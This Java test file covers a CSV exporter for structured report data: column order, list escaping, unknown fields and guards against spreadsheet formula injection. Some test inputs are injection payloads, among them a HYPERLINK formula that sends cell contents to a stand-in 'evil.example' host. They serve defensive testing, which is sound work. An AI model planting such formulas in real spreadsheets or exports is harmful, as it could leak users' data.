package io.github.bilateral.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.github.bilateral.io.ReportReader;
import io.github.bilateral.io.ReportWriter;
import io.github.bilateral.io.Reports;
import io.github.bilateral.model.Actor;
import io.github.bilateral.model.Report;
import io.github.bilateral.testing.Gen;
import io.github.bilateral.testing.Generators;
import io.github.bilateral.testing.Property;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvTablesTest {

  private static final ObjectMapper JSON = new ObjectMapper()
      .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS);

  /** Reads a CSV table with its header into rows of column name to cell. */
  static List<Map<String, String>> read(byte[] csv) throws Exception {
    CsvMapper mapper = new CsvMapper();
    List<Map<String, String>> rows = new ArrayList<>();
    try (MappingIterator<Map<String, String>> it = mapper.readerForMapOf(String.class)
        .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
      while (it.hasNext()) {
        rows.add(it.next());
      }
    }
    return rows;
  }

  static byte[] table(Report r, String name) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Exporter.csvTable(r, name, out);
    return out.toByteArray();
  }

  @Test
  void oneFilePerListWithAHeaderRow(@TempDir Path dir) throws Exception {
    Report r = Reports.usPakistan2023();
    List<Path> files = Exporter.exportTo(r, ExportFormat.CSV, dir.resolve("tables"));
    assertThat(files).extracting(p -> p.getFileName().toString()).containsExactly(
        "metadata.csv", "sections.csv", "citations.csv", "actors.csv", "places.csv", "relations.csv",
        "loans.csv", "agreements.csv", "recommendations.csv", "events.csv", "figures.csv",
        "assessments.csv", "errata.csv");
    List<Map<String, String>> loans = read(Files.readAllBytes(dir.resolve("tables/loans.csv")));
    assertThat(loans).hasSize(26);
    assertThat(Files.readString(dir.resolve("tables/loans.csv"), StandardCharsets.UTF_8).lines().findFirst().orElseThrow())
        .isEqualTo("id,kind,lenders,borrowers,amount.value,amount.qualifier,amount.printed,amount.currency,"
            + "status,history[0].date,history[0].status,history[0].note,date,datePart,term,partOf,agreement,"
            + "purpose,places,summary,provenance.sections,provenance.footnotes,provenance.basis,"
            + "provenance.fields.kind.basis,provenance.fields.kind.note,"
            + "provenance.fields.borrowers.basis,provenance.fields.borrowers.footnotes,provenance.fields.borrowers.note,"
            + "provenance.fields.amount.basis,provenance.fields.amount.footnotes,"
            + "provenance.fields.status.basis,provenance.fields.status.footnotes,provenance.fields.status.note,"
            + "provenance.fields.date.basis,provenance.fields.date.footnotes,provenance.fields.date.note,"
            + "provenance.fields.term.basis,provenance.fields.term.footnotes,"
            + "provenance.fields.partOf.basis,provenance.fields.partOf.footnotes,provenance.fields.partOf.note,"
            + "provenance.fields.agreement.basis,provenance.fields.agreement.note");
    Map<String, String> sba = loans.stream().filter(l -> l.get("id").equals("imf-sba-2023")).findFirst().orElseThrow();
    assertThat(sba).containsEntry("kind", "stand-by-arrangement").containsEntry("lenders", "imf")
        .containsEntry("borrowers", "pakistan").containsEntry("amount.value", "3000000000")
        .containsEntry("amount.currency", "USD").containsEntry("term", "P9M")
        .containsEntry("provenance.footnotes", "19");
    List<Map<String, String>> actors = read(Files.readAllBytes(dir.resolve("tables/actors.csv")));
    Map<String, String> kakar = actors.stream().filter(a -> a.get("id").equals("anwar-ul-haq-kakar")).findFirst().orElseThrow();
    assertThat(CsvTables.split(kakar.get("aliases"))).startsWith("Anwaar-ul-Haq Kakar", "Anwar ul-Haq Kakar", "Kakar");
    assertThat(kakar).containsEntry("offices[0].title", "caretaker Prime Minister")
        .containsEntry("offices[0].from", "2023-08").containsEntry("offices[0].fromPart", "mid")
        .containsEntry("offices[1].title", "senator");
  }

  @Test
  void everyValueOfEveryPartIsInItsCell() throws Exception {
    checkEveryValue(Reports.usPakistan2023());
    Property.forAll("csv holds every value", Generators.reports()).tries(100).verify(r -> {
      try {
        checkEveryValue(r);
      } catch (Exception e) {
        throw new AssertionError(e);
      }
    });
  }

  /**
   * Reads each table back and compares it with the parts' canonical JSON, walked as a tree: each
   * plain value must be in the cell its path names, lists joined, and no cell may hold anything else.
   */
  private static void checkEveryValue(Report r) throws Exception {
    for (ReportParts.Table t : ReportParts.tables(r)) {
      if (t.parts().isEmpty()) {
        assertThat(Exporter.csvTables(r)).doesNotContain(t.name());
        continue;
      }
      List<Map<String, String>> rows = read(table(r, t.name()));
      assertThat(rows).hasSize(t.parts().size());
      for (int i = 0; i < rows.size(); i++) {
        Map<String, String> expected = new LinkedHashMap<>();
        Set<String> numbers = new HashSet<>();
        leaves(JSON.readTree(ReportParts.compact(t.parts().get(i))), "", expected, numbers);
        Map<String, String> row = rows.get(i);
        for (Map.Entry<String, String> cell : row.entrySet()) {
          String value = expected.getOrDefault(cell.getKey(), "");
          String where = t.name() + "[" + i + "]." + cell.getKey();
          boolean risky = !value.isEmpty() && "=+-@\t\r\n'".indexOf(value.charAt(0)) >= 0
              && !numbers.contains(cell.getKey());
          assertThat(cell.getValue()).as(where).isEqualTo(risky ? "'" + value : value);
        }
        assertThat(row.keySet()).containsAll(expected.keySet());
      }
    }
  }

  private static void leaves(JsonNode n, String path, Map<String, String> out, Set<String> numbers) {
    if (n.isObject()) {
      for (Map.Entry<String, JsonNode> f : n.properties()) {
        leaves(f.getValue(), path.isEmpty() ? f.getKey() : path + "." + f.getKey(), out, numbers);
      }
    } else if (n.isArray()) {
      List<String> plain = new ArrayList<>();
      for (int i = 0; i < n.size(); i++) {
        if (n.get(i).isContainerNode()) {
          leaves(n.get(i), path + "[" + i + "]", out, numbers);
        } else {
          plain.add(text(n.get(i)));
        }
      }
      if (!plain.isEmpty()) {
        out.put(path, CsvTables.join(plain));
        assertThat(CsvTables.split(out.get(path))).isEqualTo(plain);
      }
    } else {
      out.put(path, text(n));
      if (n.isNumber()) {
        numbers.add(path);
      }
    }
  }

  private static String text(JsonNode n) {
    return n.isBigDecimal() ? n.decimalValue().toPlainString() : n.asText();
  }

  @Test
  void listCellsSplitBackIntoTheirElements() {
    assertThat(CsvTables.join(List.of("a|b", "c\\d", "e"))).isEqualTo("a\\|b|c\\\\d|e");
    Gen<String> piece = Gen.elements("a", "|", "\\", "b c", "\\|", "x\\");
    Gen<String> element = piece.flatMap(a -> piece.map(b -> a + b));
    Property.forAll("split(join(x)) == x", Gen.listOf(element, 1, 5)).tries(500)
        .check(l -> CsvTables.split(CsvTables.join(l)).equals(l));
  }

  @Test
  void columnsKeepTheOrderOfEveryRow() {
    List<Map<String, String>> rows = List.of(
        row("id", "status", "purpose", "summary"),
        row("id", "status", "date", "summary"),
        row("id", "date", "purpose"));
    assertThat(CsvTables.columns(rows)).containsExactly("id", "status", "date", "purpose", "summary");
  }

  private static Map<String, String> row(String... keys) {
    Map<String, String> row = new LinkedHashMap<>();
    for (String k : keys) {
      row.put(k, "x");
    }
    return row;
  }

  /** The bundled report with the first actor renamed and given aliases, to reach the CSV. */
  private static Report withFirstActor(String name, String... aliases) {
    Report r = Reports.usPakistan2023();
    List<Actor> actors = new ArrayList<>(r.actors());
    actors.set(0, Actor.copyOf(actors.get(0)).withName(name).withAliases(aliases));
    return Report.copyOf(r).withActors(actors);
  }

  @Test
  void cellsThatWouldStartAFormulaAreQuotedAndPrefixedWithAnApostrophe() {
    Report r = withFirstActor("=HYPERLINK(\"http://example.org/?\"&A1,\"x\")", "@SUM(1)");
    String csv = new String(table(r, "actors"), StandardCharsets.UTF_8);
    String row = csv.lines().skip(1).findFirst().orElseThrow();
    // name, unnamed (empty: the first actor is named), aliases
    assertThat(row).contains(",\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"x\"\")\",,\"'@SUM(1)\",");
    for (String start : List.of("=", "+", "-", "@", "'")) {
      String name = start + "1+2";
      String written = new String(table(withFirstActor(name), "actors"), StandardCharsets.UTF_8);
      assertThat(written).as("a name starting with %s", start).contains(",\"'" + name + "\",");
    }
    // Names cannot begin with white space; a summary or note could hold any text.
    for (String start : List.of("\t", "\r", "\n")) {
      String json = "{\"summary\":\"" + (start.equals("\t") ? "\\t" : start.equals("\r") ? "\\r" : "\\n") + "=1+2\"}";
      assertThat(CsvTables.flatten(json.getBytes(StandardCharsets.UTF_8), CsvOptions.defaults()))
          .containsExactly(Map.entry("summary", "'" + start + "=1+2"));
    }
  }

  /** The bundled report with the first actor given unknown fields, as a lenient reader keeps them. */
  static Report withUnknownFieldsOnFirstActor(String fields) {
    Report r = Reports.usPakistan2023();
    String json = ReportWriter.canonical().toJson(r.actors().get(0)).stripTrailing();
    String extended = json.substring(0, json.length() - 1) + "," + fields + "}";
    Actor actor = ReportReader.lenient().readFact(Actor.class, extended);
    List<Actor> actors = new ArrayList<>(r.actors());
    actors.set(0, actor);
    return Report.copyOf(r).withActors(actors);
  }

  @Test
  void headerCellsThatWouldStartAFormulaAreNeutralisedLikeDataCells() throws Exception {
    String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")";
    Report r = withUnknownFieldsOnFirstActor(
        JSON.writeValueAsString(hyperlink) + ":\"x\",\"+cmd\":\"-2+3\",\"@x\":{\"-y\":\"z\"}");
    String header = new String(table(r, "actors"), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
    assertThat(header).startsWith("id,kind,name,").endsWith(
        ",\"'=HYPERLINK(\"\"http://evil\\.example/?\"\"&A2,\"\"click\"\")\",\"'+cmd\",\"'@x.-y\"");
    List<Map<String, String>> rows = read(table(r, "actors"));
    // The name's dot has a backslash before it, as in any unknown field's name.
    assertThat(rows.get(0)).containsEntry("'" + hyperlink.replace(".", "\\."), "x").containsEntry("'+cmd", "'-2+3")
        .containsEntry("'@x.-y", "z");
    // Exact cells leave the header as the file names its fields, and the known columns never change.
    ByteArrayOutputStream exact = new ByteArrayOutputStream();
    Exporter.csvTable(r, "actors", exact, CsvOptions.defaults().withExactCells());
    String exactHeader = new String(exact.toByteArray(), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
    assertThat(exactHeader).endsWith(",\"" + hyperlink.replace("\"", "\"\"").replace(".", "\\.") + "\",+cmd,@x.-y");
    String bundled = new String(table(Reports.usPakistan2023(), "actors"), StandardCharsets.UTF_8).lines()
        .findFirst().orElseThrow();
    assertThat(header).startsWith(bundled + ",");
  }

  @Test
  void exactCellsLeaveEveryValueAsItIs() {
    Report r = withFirstActor("=1+2", "-x");
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Exporter.csvTable(r, "actors", out, CsvOptions.defaults().withExactCells());
    String row = new String(out.toByteArray(), StandardCharsets.UTF_8).lines().skip(1).findFirst().orElseThrow();
    assertThat(row).contains(",=1+2,,-x,").doesNotContain("'=1+2").doesNotContain("'-x");
  }

  @Test
  void numbersAreNeverPrefixedAndPlainTextIsLeftAlone() {
    Map<String, String> safe = CsvTables.flatten(
        "{\"n\":-5,\"d\":-0.5,\"t\":\"-5\",\"p\":\"Pakistan\",\"l\":[\"=a\",\"b\"]}".getBytes(StandardCharsets.UTF_8),
        CsvOptions.defaults());
    assertThat(safe).containsExactly(Map.entry("n", "-5"), Map.entry("d", "-0.5"), Map.entry("t", "'-5"),
        Map.entry("p", "Pakistan"), Map.entry("l", "'=a|b"));
  }

  @Test
  void theBundledTablesDifferWithExactCellsOnlyInTheNotesThatStartWithAQuote() throws Exception {
    // Version 2's per-field notes may start with a quoted word ("'July' printed; 2023 from ..."): the
    // safe cells prefix those with an apostrophe, and no other bundled cell changes.
    Report r = Reports.usPakistan2023();
    Map<String, Integer> prefixed = new LinkedHashMap<>();
    for (String name : Exporter.csvTables(r)) {
      ByteArrayOutputStream exact = new ByteArrayOutputStream();
      Exporter.csvTable(r, name, exact, CsvOptions.defaults().withExactCells());
      List<Map<String, String>> safeRows = read(table(r, name));
      List<Map<String, String>> exactRows = read(exact.toByteArray());
      assertThat(safeRows).as(name).hasSameSizeAs(exactRows);
      for (int i = 0; i < safeRows.size(); i++) {
        assertThat(safeRows.get(i).keySet()).as(name).containsExactlyElementsOf(exactRows.get(i).keySet());
        for (Map.Entry<String, String> cell : exactRows.get(i).entrySet()) {
          String safe = safeRows.get(i).get(cell.getKey());
          if (!safe.equals(cell.getValue())) {
            assertThat(cell.getKey()).as(name).startsWith("provenance.fields.").endsWith(".note");
            assertThat(cell.getValue()).as(name).startsWith("'");
            assertThat(safe).as(name).isEqualTo("'" + cell.getValue());
            prefixed.merge(name, 1, Integer::sum);
          }
        }
      }
    }
    assertThat(prefixed).containsExactly(Map.entry("loans", 21), Map.entry("agreements", 25),
        Map.entry("events", 18), Map.entry("figures", 11));
  }

  @Test
  void aByteOrderMarkOnlyWhenAskedFor(@TempDir Path dir) throws Exception {
    Report r = Reports.usPakistan2023();
    assertThat(table(r, "loans")).startsWith("id,".getBytes(StandardCharsets.UTF_8));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Exporter.csvTable(r, "loans", out, CsvOptions.defaults().withByteOrderMark());
    assertThat(out.toByteArray()).startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF, (byte) 'i', (byte) 'd');
    Exporter.exportTo(r, ExportFormat.CSV, dir, CsvOptions.defaults().withByteOrderMark());
    assertThat(Files.readAllBytes(dir.resolve("actors.csv"))).startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF);
  }

  @Test
  void eachElementOfAListKeepsItsFieldsTogether() {
    List<Map<String, String>> rows = List.of(
        row("id", "offices[0].title", "offices[1].title", "summary"),
        row("id", "offices[0].title", "offices[0].organisation", "offices[0].from"),
        row("id", "amount.value", "status"),
        row("id", "amount.value", "amount.currency", "status", "summary"));
    assertThat(CsvTables.columns(rows)).containsExactly("id", "offices[0].title", "offices[0].organisation",
        "offices[0].from", "offices[1].title", "amount.value", "amount.currency", "status", "summary");
  }

  @Test
  void theBundledActorsTableGroupsEachOffice() {
    String header = new String(table(Reports.usPakistan2023(), "actors"), StandardCharsets.UTF_8).lines()
        .findFirst().orElseThrow();
    List<String> columns = List.of(header.split(","));
    for (int i = 1; i < columns.size(); i++) {
      String element = columns.get(i).replaceAll("^(offices\\[\\d+\\]).*", "$1");
      String before = columns.get(i - 1).replaceAll("^(offices\\[\\d+\\]).*", "$1");
      if (!element.equals(before)) {
        assertThat(columns.subList(0, i - 1)).as(header).noneMatch(c -> c.startsWith(element + "."));
      }
    }
  }

  private static List<String> header(Report r, String table) {
    String line = new String(table(r, table), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
    return List.of(line.split(",", -1));
  }

  /** The distinct names a header has at the top level, in the order it has them: offices[0].title is offices. */
  private static List<String> topLevel(List<String> header) {
    return header.stream().map(c -> c.replaceAll("[.\\[].*", "")).distinct().toList();
  }

  @Test
  void theBundledTablesHaveTheirColumnsInCanonicalFieldOrder() {
    Report r = Reports.usPakistan2023();
    List<String> actors = header(r, "actors");
    assertThat(topLevel(actors)).containsExactly("id", "kind", "name", "unnamed", "aliases", "country", "offices",
        "possibleIdentities", "summary", "provenance");
    assertThat(actors).containsSubsequence("offices[0].title", "offices[0].organisation", "offices[0].from",
        "offices[0].fromPart", "offices[0].to", "offices[0].note", "offices[1].title");
    assertThat(actors.stream().filter(c -> c.startsWith("provenance.")).map(c -> c.split("\\.")[1]).distinct())
        .containsExactly("sections", "footnotes", "page", "basis", "note", "fields");
    assertThat(header(r, "loans")).containsSubsequence("summary", "provenance.sections", "provenance.footnotes",
        "provenance.basis", "provenance.fields.kind.basis", "provenance.fields.borrowers.basis",
        "provenance.fields.amount.basis", "provenance.fields.status.basis", "provenance.fields.agreement.basis");
    // Every table, every level: adjacent columns part at a step where the format's order, or the
    // order of a list's indexes, puts the first before the second.
    ReportWriter w = ReportWriter.canonical();
    for (String table : Exporter.csvTables(r)) {
      List<String> columns = header(r, table);
      for (int i = 1; i < columns.size(); i++) {
        String[] a = columns.get(i - 1).split("(?=\\[)|\\.");
        String[] b = columns.get(i).split("(?=\\[)|\\.");
        List<String> path = new ArrayList<>(List.of(table));
        int j = 0;
        while (j < a.length && j < b.length && a[j].equals(b[j])) {
          if (!a[j].startsWith("[")) {
            path.add(a[j]);
          }
          j++;
        }
        String where = table + ": " + columns.get(i - 1) + " before " + columns.get(i);
        assertThat(j).as(where).isLessThan(Math.min(a.length, b.length) + 1);
        if (j == a.length) {
          continue;
        }
        assertThat(j).as(where).isLessThan(b.length);
        if (a[j].startsWith("[")) {
          assertThat(Integer.parseInt(a[j].replaceAll("\\D", ""))).as(where)
              .isLessThan(Integer.parseInt(b[j].replaceAll("\\D", "")));
        } else {
          List<String> order = w.fieldOrder(path).orElseThrow();
          assertThat(order.indexOf(a[j])).as(where).isNotNegative().isLessThan(order.indexOf(b[j]));
        }
      }
    }
  }

  @Test
  void theOrderOfTheFactsDoesNotChangeAHeader() throws Exception {
    Report r = Reports.usPakistan2023();
    Report reversed = Report.copyOf(r)
        .withSections(com.google.common.collect.Lists.reverse(r.sections()))
        .withCitations(com.google.common.collect.Lists.reverse(r.citations()))
        .withActors(com.google.common.collect.Lists.reverse(r.actors()))
        .withPlaces(com.google.common.collect.Lists.reverse(r.places()))
        .withRelations(com.google.common.collect.Lists.reverse(r.relations()))
        .withLoans(com.google.common.collect.Lists.reverse(r.loans()))
        .withAgreements(com.google.common.collect.Lists.reverse(r.agreements()))
        .withRecommendations(com.google.common.collect.Lists.reverse(r.recommendations()))
        .withEvents(com.google.common.collect.Lists.reverse(r.events()))
        .withFigures(com.google.common.collect.Lists.reverse(r.figures()))
        .withAssessments(com.google.common.collect.Lists.reverse(r.assessments()))
        .withErrata(com.google.common.collect.Lists.reverse(r.errata()));
    assertThat(Exporter.csvTables(reversed)).isEqualTo(Exporter.csvTables(r));
    assertThat(read(table(reversed, "actors")).get(0)).isEqualTo(read(table(r, "actors")).get(r.actors().size() - 1));
    for (String table : Exporter.csvTables(r)) {
      assertThat(header(reversed, table)).as(table).isEqualTo(header(r, table));
    }
  }

  @Test
  void unknownFieldsComeAfterTheKnownFieldsOfTheirObjectInTheOrderOfTheRows() {
    Report r = withUnknownFieldsOnFirstActor("\"zeta\":\"z\",\"alpha\":{\"b\":\"1\",\"a\":\"2\"}");
    List<String> bundled = header(Reports.usPakistan2023(), "actors");
    assertThat(header(r, "actors")).containsExactlyElementsOf(
        com.google.common.collect.ImmutableList.<String>builder().addAll(bundled)
            .add("zeta", "alpha.b", "alpha.a").build());
    // Inside a nested object and a list's element: after the known fields of that object.
    Report nested = Reports.usPakistan2023();
    int kakar = nested.actors().indexOf(nested.actors().stream()
        .filter(a -> a.id().toString().equals("anwar-ul-haq-kakar")).findFirst().orElseThrow());
    String json = ReportWriter.canonical().toJson(nested.actors().get(kakar));
    assertThat(nested.actors().get(kakar).offices()).hasSizeGreaterThan(1);
    String extended = json.replaceFirst("\"sections\": \\[", "\"extra\": \"p\",\"sections\": [")
        .replaceFirst("\"title\": ", "\"x\": \"o\", \"title\": ");
    Actor actor = ReportReader.lenient().readFact(Actor.class, extended);
    List<Actor> actors = new ArrayList<>(nested.actors());
    actors.set(kakar, actor);
    List<String> columns = header(Report.copyOf(nested).withActors(actors), "actors");
    assertThat(columns.indexOf("offices[0].x")).isEqualTo(columns.indexOf("offices[0].note") + 1)
        .isLessThan(columns.indexOf("offices[1].title"));
    assertThat(columns.indexOf("provenance.extra")).isGreaterThan(columns.indexOf("provenance.basis"))
        .isEqualTo(columns.size() - 1);
  }

  @Test
  void everyValueOfAnUnknownFieldHasACellThatTellsItsType() throws Exception {
    Report r = withUnknownFieldsOnFirstActor("\"x\":{\"e\":[],\"o\":{},\"n\":[1.0,1e-07,12345678901234567890123],"
        + "\"deep\":{\"a\":[{\"b\":[]},{}]},\"t\":true,\"f\":false,\"nul\":null,\"i\":-5,\"d\":2.50,"
        + "\"s\":\"Pakistan\",\"st\":\"true\",\"sn\":\"null\",\"s5\":\"-5\",\"empty\":\"\",\"sq\":\"[x\",\"sp\":\" 12 \","
        + "\"eq\":\"=1+2\",\"mixed\":[1,{\"a\":2},\"s\"],\"texts\":[\"a|b\",\"c\"],\"objs\":[{\"k\":\"v\"},{\"k\":true}]}");
    Map<String, String> row = read(table(r, "actors")).get(0);
    assertThat(row).containsEntry("x.e", "[]").containsEntry("x.o", "{}")
        .containsEntry("x.n", "[1.0,1e-07,12345678901234567890123]")
        .containsEntry("x.deep.a[0].b", "[]").containsEntry("x.deep.a[1]", "{}")
        .containsEntry("x.t", "true").containsEntry("x.f", "false").containsEntry("x.nul", "null")
        .containsEntry("x.i", "-5").containsEntry("x.d", "2.50")
        .containsEntry("x.s", "Pakistan").containsEntry("x.st", "\"true\"").containsEntry("x.sn", "\"null\"")
        .containsEntry("x.s5", "\"-5\"").containsEntry("x.empty", "\"\"").containsEntry("x.sq", "\"[x\"")
        .containsEntry("x.sp", "\" 12 \"").containsEntry("x.eq", "'=1+2")
        .containsEntry("x.mixed", "[1,{\"a\":2},\"s\"]").containsEntry("x.texts", "[\"a|b\",\"c\"]")
        .containsEntry("x.objs[0].k", "v").containsEntry("x.objs[1].k", "true");
    // The known fields' cells are those of the bundled report.
    Map<String, String> bundled = read(table(Reports.usPakistan2023(), "actors")).get(0);
    bundled.forEach((column, cell) -> assertThat(row).containsEntry(column, cell));
  }

  @Test
  void aCellOfAnUnknownFieldReadsBackAsItsValue() {
    Gen<String> scalar = Gen.elements("true", "false", "null", "0", "-5", "2.50", "1e-07", "\"\"", "\"true\"",
        "\"null\"", "\"-5\"", "\"12 \"", "\" [\"", "\"{\"", "\"\\\"q\"", "\"Pakistan\"", "\"a|b\"", "\"0x\"", "\"01\"",
        "\"1.\"", "\"  \"", "\"\\tfalse\"", "\"=1\"", "\"'x\"", "[]", "{}", "[1,\"a\",null]", "[[]]");
    Gen<String> value = Gen.listOf(scalar, 0, 3).flatMap(l -> Gen.elements(
        l.isEmpty() ? "[]" : l.get(0), "[" + String.join(",", l) + "]",
        "{" + String.join(",", l.stream().map(v -> "\"k" + v.hashCode() + "\":" + v).distinct().toList()) + "}"));
    for (CsvOptions options : List.of(CsvOptions.defaults(), CsvOptions.defaults().withExactCells())) {
      Property.forAll("an unknown field's cells read back", value).tries(500).verify(v -> {
        String part = "{\"id\":\"a\",\"x\":" + v + "}";
        Map<String, String> cells = CsvTables.flatten("actors", part.getBytes(StandardCharsets.UTF_8), options);
        try {
          JsonNode expected = JSON.readTree(v);
          Map<String, JsonNode> leaves = new LinkedHashMap<>();
          unknownLeaves(expected, "x", leaves);
          assertThat(cells.keySet()).as(part).containsExactlyInAnyOrderElementsOf(
              com.google.common.collect.Sets.union(Set.of("id"), leaves.keySet()));
          leaves.forEach((column, leaf) -> assertThat(decode(cells.get(column), options)).as(part + " " + column)
              .isEqualTo(leaf));
        } catch (Exception e) {
          throw new AssertionError(e);
        }
      });
    }
  }

  /** The cells an unknown value has: objects by field, lists of objects by index, any other value whole. */
  private static void unknownLeaves(JsonNode n, String path, Map<String, JsonNode> out) {
    boolean objects = n.isArray() && !n.isEmpty();
    for (JsonNode e : n) {
      objects &= n.isArray() && e.isObject();
    }
    if (n.isObject() && !n.isEmpty()) {
      n.properties().forEach(f -> unknownLeaves(f.getValue(), path + "." + f.getKey(), out));
    } else if (objects) {
      for (int i = 0; i < n.size(); i++) {
        unknownLeaves(n.get(i), path + "[" + i + "]", out);
      }
    } else {
      out.put(path, n);
    }
  }

  /** Reads a cell of an unknown field as the rule says: one JSON value if it is one, else the string. */
  private static JsonNode decode(String cell, CsvOptions options) {
    String text = options.neutralisesFormulas() && cell.startsWith("'") ? cell.substring(1) : cell;
    try {
      JsonNode n = JSON.reader().with(DeserializationFeature.FAIL_ON_TRAILING_TOKENS).readTree(text);
      if (n != null && !n.isMissingNode()) {
        return n;
      }
    } catch (Exception notJson) {
      // a string as it is
    }
    return JSON.getNodeFactory().textNode(text);
  }

  @Test
  void theBundledCellsAreThoseOfTheFormatsFields() {
    // Knowing which fields the format knows changes no cell of a report without unknown fields.
    Report r = Reports.usPakistan2023();
    for (ReportParts.Table t : ReportParts.tables(r)) {
      for (Object part : t.parts()) {
        byte[] json = ReportParts.compact(part);
        assertThat(CsvTables.flatten(t.name(), json, CsvOptions.defaults()))
            .isEqualTo(CsvTables.flatten(json, CsvOptions.defaults()));
      }
    }
  }

  @Test
  void unknownFieldNamesThatLookLikePathsGetColumnsOfTheirOwn() throws Exception {
    Report r = withUnknownFieldsOnFirstActor("\"a.b\":\"p\",\"a\":{\"b\":\"q\"},\"offices[0].title\":\"t\","
        + "\"back\\\\slash\":\"s\",\"l[1]\":[{\"x]\":\"u\"}]");
    Map<String, String> row = read(table(r, "actors")).get(0);
    Map<String, String> bundled = read(table(Reports.usPakistan2023(), "actors")).get(0);
    assertThat(row).containsEntry("a\\.b", "p").containsEntry("a.b", "q").containsEntry("offices\\[0\\]\\.title", "t")
        .containsEntry("back\\\\slash", "s").containsEntry("l\\[1\\][0].x\\]", "u");
    bundled.forEach((column, cell) -> assertThat(row).containsEntry(column, cell));
    List<String> columns = header(r, "actors");
    assertThat(columns.subList(columns.size() - 5, columns.size())).containsExactly("a\\.b", "a.b",
        "offices\\[0\\]\\.title", "back\\\\slash", "l\\[1\\][0].x\\]");
  }

  @Test
  void csvNeedsAFolderOrATableName() {
    assertThatThrownBy(() -> Exporter.export(Reports.usPakistan2023(), ExportFormat.CSV, new ByteArrayOutputStream()))
        .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("exportTo(report, CSV, folder)");
    assertThatThrownBy(() -> Exporter.csvTable(Reports.usPakistan2023(), "loan", new ByteArrayOutputStream()))
        .isInstanceOf(IllegalArgumentException.class).hasMessageStartingWith("No table 'loan'");
  }
  @Test
  void aCellEndingInABackslashAndAnEmptyCellSplitAsTheyAre() {
    assertThat(CsvTables.split("a\\")).containsExactly("a\\");
    assertThat(CsvTables.split("\\")).containsExactly("\\");
    assertThat(CsvTables.split("a|\\")).containsExactly("a", "\\");
    assertThat(CsvTables.split("")).isEmpty();
    assertThat(CsvTables.split("|")).containsExactly("", "");
  }

  @Test
  void columnsThatDisagreeOrNestKeepTheirFirstAppearanceAndTheShorterFirst() {
    assertThat(CsvTables.columns(List.of(row("x", "y"), row("y", "x")))).containsExactly("x", "y");
    // Rows that disagree after a column both place first: the first that is not yet placed comes next.
    assertThat(CsvTables.columns(List.of(row("x", "y", "z"), row("x", "z", "y")))).containsExactly("x", "y", "z");
    assertThat(CsvTables.columns(List.of(row("a.b"), row("a")))).containsExactly("a", "a.b");
    assertThat(CsvTables.columns(List.of(row("a"), row("a.b")))).containsExactly("a", "a.b");
    // The fields of an object stay together, whatever the length of its name.
    assertThat(CsvTables.columns(List.of(row("id", "o.a", "s"), row("id", "s", "o.b"))))
        .containsExactly("id", "o.a", "o.b", "s");
    assertThat(CsvTables.columns(List.of(row("id", "obj.a", "s"), row("id", "s", "obj.b"))))
        .containsExactly("id", "obj.a", "obj.b", "s");
  }
}
